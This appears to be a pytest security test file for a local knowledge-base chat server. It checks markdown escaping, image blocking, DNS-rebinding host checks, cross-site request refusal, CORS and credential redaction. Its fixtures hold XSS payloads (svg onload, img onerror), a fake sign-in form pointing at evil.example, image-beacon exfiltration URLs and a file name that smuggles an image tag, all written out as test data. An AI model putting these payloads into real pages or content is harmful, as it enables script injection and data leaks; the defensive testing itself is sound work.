"""The web door against a hostile page, hostile documents and a careless operator (issue 17:
items 6, 8, 9, 10 and the smaller web items of 12; docs/reliability.md, case 6).

A real `kb serve` on 127.0.0.1 holds an index of FAQ text written to attack the chat: remote
images, HTML that tries to slip past the chat's escaping, content nested past markdown-it's
limit. Its LLM is configured at a closed port through a URL with a user name and password in it.
"""

from __future__ import annotations

import json
import os
import socket
import time
import uuid
from pathlib import Path

import pytest
from helpers import free_port, kb_serve, raw

from kb.doors.web.render import escape_md_html

pytestmark = pytest.mark.slow

EXFIL = "http://127.0.0.1:9/exfil?d=token-from-the-paste"
PASSWORD = "pw-" + uuid.uuid4().hex[:12]

# Each line is one way to get HTML or an image past the chat's markdown escaping.
BYPASSES = [
    "An escaped backtick is no code span: \\`<svg onload=alert(1)>`",
    "x \\` <form action=//evil.example><button>Sign in</button></form> `",
    "- ```\n  ```\n<svg onload=alert(2)>\n```",  # a list item's fence closes where ours would open
    " ```\n```\n<img src=x onerror=alert(3)>\n```",  # an indented opener
    "```\nx\n  ```\n<svg onload=alert(4)>\n```",  # an indented closer
    "`a\n\n<svg onload=alert(5)>\n`",  # a code span cannot cross a blank line
    "```x`y\n<svg onload=alert(6)>\n```",  # a backtick in the info string: not a fence
    f"![screenshot]({EXFIL})",
    "![ref image][img]\n\n[img]: http://127.0.0.1:9/ref-beacon",
    "<img src=http://127.0.0.1:9/raw-beacon>",
    "> <svg onload=alert(8)>\n> > <img src=x onerror=alert(9)>",  # a quote's marker is kept; no HTML
    ">>> <svg onload=alert(10)>\n  > ![x](http://127.0.0.1:9/quote-beacon)",
]

# Browsers read a backslash in an address as "/": this name asks for an image when shown as HTML.
NAMED = "nccl`<img src=http:\\\\127.0.0.1:9\\name-beacon>`.md"

HOSTILE_FAQ = f"""\
# Tracing

## Q: How do I read the HCCL trace viewer output?

A: Open the viewer and compare the timelines.

![timeline]({EXFIL})

Inline trace: `<trace id=1>` and the raw form \\`<svg onload=alert(7)>`.

```bash
export HCCL_TRACE=1
```

## Q: Why is the deeply nested troubleshooting checklist cut off?

A: It is not:

{"".join(">" * (i + 1) + f" level {i}" + chr(10) for i in range(30))}
{">" * 30} deepest-marker-xyz
"""


def html_of(md: str) -> tuple[list[str], list[str]]:
    """(raw HTML pieces, image sources) a CommonMark renderer with raw HTML on makes of `md`."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).parse(md)
    raw, images = [], []
    for t in tokens:
        for x in [t, *(t.children or [])]:
            if x.type in ("html_block", "html_inline"):
                raw.append(x.content.strip())
            if x.type == "image":
                images.append(x.attrs.get("src"))
    return raw, images


@pytest.mark.parametrize("text", BYPASSES)
def test_chat_markdown_lets_no_html_or_image_through(text):
    """The old escaping treated `\\`` as a code span and fences by a regex of its own; marked
    (the chat's renderer) did not, so raw <svg>/<form> reached the page."""
    md = escape_md_html(text)
    raw, images = html_of(md)
    assert images == [], md
    assert set(raw) <= {"<code>", "</code>"}, md
    assert "<svg" not in md.replace("<code>", "").replace("</code>", "") or "```" in md  # only as code


def test_code_still_reads_as_code():
    md = escape_md_html("Run `ls <dir>` then:\n\n```bash\ncat <file> | grep x\n```\n")
    assert "<code>ls &lt;dir&gt;</code>" in md
    assert "```bash\ncat <file> | grep x\n```" in md  # fenced commands verbatim (copy buttons)


# -- a served index ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory) -> Path:
    from kb.indexing import ingest

    docs = tmp_path_factory.mktemp("hostile-web-docs")
    (docs / "trace.md").write_text(HOSTILE_FAQ, "utf-8")
    # A file name is the document's location, shown under every answer that cites it.
    (docs / NAMED).write_text(
        "## Q: NCCL error(2) unhandled system error in Docker?\n\nA: Start the container with "
        "`--shm-size 32G`.\n",
        "utf-8",
    )
    index = tmp_path_factory.mktemp("hostile-web-index") / "index"
    ingest([str(docs)], index)
    return index


@pytest.fixture(scope="module")
def tmpdir_of_server(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("server-tmp")


@pytest.fixture(scope="module")
def server(hostile_index, tmpdir_of_server, tmp_path_factory):
    env = {
        "TMPDIR": str(tmpdir_of_server),  # Gradio's files go under here (not /tmp)
        "KB_LLM_MODEL": "stub-model",
        "KB_LLM_BASE_URL": f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}/v1?api_key={PASSWORD}",
        "KB_LLM_TIMEOUT_S": "1",
        "KB_LLM_MAX_RETRIES": "0",
    }
    with kb_serve(hostile_index, tmp_path_factory.mktemp("web-log") / "serve.log", env=env) as srv:
        yield srv


def test_a_file_name_is_shown_as_text_under_an_answer(hostile_index):
    """The sources line of the chat wrote the location between backticks of its own, so the
    backtick in this name ended the code span and the browser fetched the image it names."""
    from kb.doors.web.render import render_answer
    from kb.service import KnowledgeBase

    answer = KnowledgeBase.open(index=str(hostile_index)).ask(
        "NCCL error(2) unhandled system error in Docker"
    )
    assert NAMED in answer.citations[0].entry.location
    md = render_answer(answer)
    raw, images = html_of(md)
    assert images == [] and set(raw) <= {"<code>", "</code>"}, md
    assert "&lt;img src=http:" in md


def ask(port: int, query: str, headers: dict | None = None):
    status, hdrs, body = raw(
        port,
        "POST",
        "/api/ask",
        json.dumps({"query": query}).encode(),
        {"Content-Type": "application/json", **(headers or {})},
    )
    return status, hdrs, json.loads(body)


def entry_id(port: int, query: str) -> str:
    status, _, body = raw(
        port,
        "POST",
        "/api/search",
        json.dumps({"query": query, "k": 1}).encode(),
        {"Content-Type": "application/json"},
    )
    assert status == 200
    found = json.loads(body)
    return (found["hits"] or found["suggestions"])[0]["entry_id"]


def test_credentials_in_the_llm_url_are_never_shown_or_logged(server):
    status, _, body = ask(server.port, "NCCL error(2) unhandled system error in Docker")
    assert status == 200 and body["mode"] == "extractive"
    notice = body["notice"]
    assert "could not be reached at http://[redacted]@127.0.0.1:" in notice
    assert "api_key=[redacted]" in notice
    time.sleep(0.5)
    log = server.log.read_text()
    assert "LLM answer failed" in log
    for where, text in (("the answer", json.dumps(body)), ("the server log", log)):
        assert PASSWORD not in text and "alice:" not in text, where


def test_cli_notice_redacts_the_url_too(hostile_index):
    import subprocess
    import sys

    env = {
        **os.environ,
        "KB_LLM_MODEL": "stub-model",
        "KB_LLM_BASE_URL": f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}/v1",
        "KB_LLM_TIMEOUT_S": "1",
        "KB_LLM_MAX_RETRIES": "0",
    }
    p = subprocess.run(
        [
            sys.executable,
            "-m",
            "kb",
            "ask",
            "--json",
            "NCCL error(2) in Docker",
            "--index",
            str(hostile_index),
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert p.returncode == 0, p.stderr
    assert "http://[redacted]@127.0.0.1:" in json.loads(p.stdout)["notice"]
    assert PASSWORD not in p.stdout + p.stderr


def test_entry_panel_shows_images_as_text_and_all_nested_content(server):
    trace = entry_id(server.port, "How do I read the HCCL trace viewer output")
    status, _, page = raw(server.port, "GET", f"/entry/{trace}?fragment=1")
    page = page.decode()
    assert status == 200 and "<img" not in page
    assert "[image: timeline]" in page and EXFIL.replace("&", "&amp;") in page  # the URL, as text
    assert "&lt;svg" in page and "<svg" not in page
    nested = entry_id(server.port, "deeply nested troubleshooting checklist cut off")
    status, _, page = raw(server.port, "GET", f"/entry/{nested}?fragment=1")
    assert status == 200 and "deepest-marker-xyz" in page.decode()  # markdown-it's limit used to drop it


def test_uploads_are_turned_off_and_nothing_is_stored(server, tmpdir_of_server):
    boundary = "kbboundary"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n'
        f"Content-Type: text/plain\r\n\r\n{'x' * 100_000}\r\n--{boundary}--\r\n"
    ).encode()
    for _ in range(3):
        status, _, text = raw(
            server.port,
            "POST",
            "/gradio_api/upload",
            body,
            {"Content-Type": f"multipart/form-data; boundary={boundary}"},
        )
        assert status == 404 and b"no file uploads" in text
    stored = [p for p in tmpdir_of_server.rglob("*") if p.is_file()]
    assert stored == []


def test_gradio_files_are_removed_when_the_server_stops(hostile_index, tmp_path):
    """Gradio's temp folder is the server's own and goes with it (the shared /tmp/gradio stayed)."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    with kb_serve(hostile_index, tmp_path / "serve.log", env={"TMPDIR": str(tmp)}) as srv:
        assert raw(srv.port, "GET", "/")[0] == 200
        assert any(tmp.iterdir())  # the private folder exists while it runs
    assert list(tmp.iterdir()) == []


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:7860", "kb.evil.test."])
def test_unknown_host_names_are_refused(server, host):
    """DNS rebinding: a page whose name resolves to 127.0.0.1 arrives with its own name in Host."""
    for method, path in (("GET", "/api/health"), ("GET", "/"), ("GET", "/gradio_api/info")):
        status, _, body = raw(server.port, method, path, headers={"Host": host})
        assert status == 421, (host, path, status)
        assert b"KB_ALLOWED_HOSTS" in body


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "localhost", "LOCALHOST:1", "[::1]:7860", socket.gethostname()]
)
def test_loopback_and_own_names_are_answered(server, host):
    assert raw(server.port, "GET", "/api/health", headers={"Host": host})[0] == 200


def test_allowed_hosts_come_from_the_settings(monkeypatch):
    from kb.config import load_settings
    from kb.doors.host.guard import allowed_hosts

    monkeypatch.setenv("KB_ALLOWED_HOSTS", "kb.example.org, Docs.Example.org.")
    assert {"kb.example.org", "docs.example.org", "localhost"} <= allowed_hosts(load_settings().allowed_hosts)


def test_api_takes_only_json_bodies(server):
    """A page on another site can POST text/plain without a preflight; the API answered it."""
    body = json.dumps({"query": "NCCL error(2)"}).encode()
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        status, _, text = raw(server.port, "POST", "/api/ask", body, {"Content-Type": ctype})
        assert status == 415 and b"Content-Type: application/json" in text, ctype
    status, _, text = raw(server.port, "POST", "/api/search", body, {})
    assert status == 415


def test_cross_site_posts_are_refused_everywhere(server):
    body = json.dumps({"query": "NCCL error(2)"}).encode()
    evil = {"Origin": "http://evil.example", "Content-Type": "application/json"}
    for path in ("/api/ask", "/api/search", "/gradio_api/queue/join"):
        status, _, text = raw(server.port, "POST", path, body, evil)
        assert status == 403 and b"cross-site request refused" in text, path
    local_other_port = {"Origin": "http://localhost:9999", "Content-Type": "application/json"}
    assert raw(server.port, "POST", "/api/ask", body, local_other_port)[0] == 403
    same = {"Origin": server.base, "Content-Type": "application/json"}
    assert raw(server.port, "POST", "/api/ask", body, same)[0] == 200  # the chat's own page


@pytest.mark.parametrize(
    "origin", ["http://localhost:9999", "http://127.0.0.1:1", "null", "http://evil.example"]
)
def test_no_origin_is_granted_cors_with_credentials(server, origin):
    """Gradio's middleware reflected any localhost origin with Allow-Credentials: true."""
    for method, path, headers in (
        ("GET", "/gradio_api/info", {"Origin": origin}),
        ("GET", "/config", {"Origin": origin}),
        ("OPTIONS", "/gradio_api/queue/join", {"Origin": origin, "Access-Control-Request-Method": "POST"}),
    ):
        _, hdrs, _ = raw(server.port, method, path, headers=headers)
        assert "access-control-allow-origin" not in hdrs, (path, hdrs)
        assert hdrs.get("access-control-allow-credentials") != "true", (path, hdrs)


def test_health_shows_no_paths_of_this_machine(server, hostile_index):
    status, _, body = raw(server.port, "GET", "/api/health")
    health = json.loads(body)
    assert status == 200 and health["entries"] == 3
    assert health["index"] == hostile_index.name
    text = json.dumps(health)
    assert str(hostile_index.parent) not in text and "/tmp" not in text
    assert all("/" not in s for s in health["sources"])


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _wakeups(pid: int) -> int:
    """Context switches of all the process's threads: each sleep-and-wake of a poll loop is one."""
    total = 0
    for status in Path(f"/proc/{pid}/task").glob("*/status"):
        for line in status.read_text().splitlines():
            if line.startswith(("voluntary_ctxt_switches:", "nonvoluntary_ctxt_switches:")):
                total += int(line.split()[1])
    return total


def test_an_idle_server_uses_almost_no_cpu(server):
    """Gradio's queue polled every 1 ms: an idle kb serve woke ~860 times a second and used ~7%
    of a core. Wakeups are what a poll loop costs and they count the same on every machine (about
    10 a second now); CPU time from the kernel's ticks does not (0.3% of a core here, 3.5% on a CI
    machine at the same 0.1 s poll), so it only guards against a thread that spins."""
    raw(server.port, "GET", "/api/health")
    time.sleep(2)
    cpu, woke = _cpu_seconds(server.proc.pid), _wakeups(server.proc.pid)
    time.sleep(6)
    used = (_cpu_seconds(server.proc.pid) - cpu) / 6
    per_s = (_wakeups(server.proc.pid) - woke) / 6
    print(f"idle kb serve: {per_s:.0f} wakeups a second, {used:.1%} of a core")
    assert per_s < 50
    assert used < 0.10


@pytest.mark.skipif(
    not Path("/usr/bin/chromium").exists() and os.environ.get("CI", "").lower() not in ("1", "true", "yes"),
    reason="needs Debian's chromium (in CI a missing browser fails this test)",
)
def test_the_chat_in_a_browser_renders_no_image_and_no_html_of_the_documents(server):
    """The real page in chromium: the answer quoting the hostile entry, a question that is itself a
    bypass, and the source panel. No <img>, no <svg onload>, no <form>; nothing is fetched from
    anywhere but the server (browser_page fails the test on any such request)."""
    from chat_page import ANSWERED, browser_page

    with browser_page(server.base + "/") as page:
        page.fill(
            "#kb-query textarea", "How do I read the HCCL trace viewer output? \\`<svg onload=alert(9)>`"
        )
        page.press("#kb-query textarea", "Enter")
        page.wait_for_function(ANSWERED, arg=1)
        chat = page.locator("#kb-chat")
        assert chat.locator("img").count() == 0
        assert chat.locator("svg[onload], form, [onerror]").count() == 0
        text = chat.inner_text()
        assert "![timeline](http://127.0.0.1:9/exfil" in text  # the image as its text and URL
        assert "<svg onload=alert(9)>" in text  # the question's markup, shown as text
        page.locator("#kb-chat .bot-row a[href*='entry/']").first.click()
        page.wait_for_selector("#kb-entry .kb-entry")
        panel = page.locator("#kb-entry")
        assert panel.locator("img").count() == 0 and "[image: timeline]" in panel.inner_text()
